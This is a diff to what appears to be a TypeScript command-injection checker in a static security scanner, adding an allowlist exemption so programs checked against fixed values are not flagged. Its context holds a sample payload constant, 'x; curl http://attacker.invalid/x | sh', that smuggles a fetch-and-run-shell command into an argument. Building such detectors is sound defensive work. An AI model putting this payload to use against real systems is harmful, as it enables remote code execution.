@@ -4,7 +4,7 @@ import type { Action } from '../../policy/types.js';
 import type { FileFacts, Value } from '../facts.js';
 import { constant, constString, dictGet, fillHoleMarkers, HOLE_PREFIX, joinValues, sanitizersOf, skeleton, taintOf, unknown } from '../values.js';
 import { isWhich } from '../flow.js';
-import { calleeText, configuredValue, EVERY_CALLER_OWN, fillHoles, notAllowlisted, ownAtEveryCall, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
+import { allowlisted, calleeText, configuredValue, EVERY_CALLER_OWN, fillHoles, notAllowlisted, ownAtEveryCall, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
 import type { Check, CheckContext, SinkHit } from './types.js';
 
 export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
@@ -308,8 +308,9 @@ export const commandDynamic: Check = {
       // a helper every caller of which hands such a path, or a lookup of a constant name on PATH (`_supports(Path(which("tool")))`)
       if (programNamedAtEveryCall(ctx, shape.program) && !ctx.untrusted(shape.program).length) return undefined;
       const taints = notAllowlisted(ctx, shape.program);
-      // checked against a collection of the program's own values (`if prog not in allowed: raise`)
-      if (!taints.length && ctx.untrusted(shape.program).length) return undefined;
+      // checked against a collection of the program's own values (`if prog not in allowed: raise`), whether or
+      // not an untrusted origin is in sight (`if exe in ["node", "npm"]: run([exe, "--version"])`)
+      if (!taints.length && (ctx.untrusted(shape.program).length || allowlisted(shape.program))) return undefined;
       // the program comes from the settings the object was made with (an MCP client's server command): by design
       if (!taints.length && taintOf(shape.program).length && configuredValue(shape.program)) {
         return {
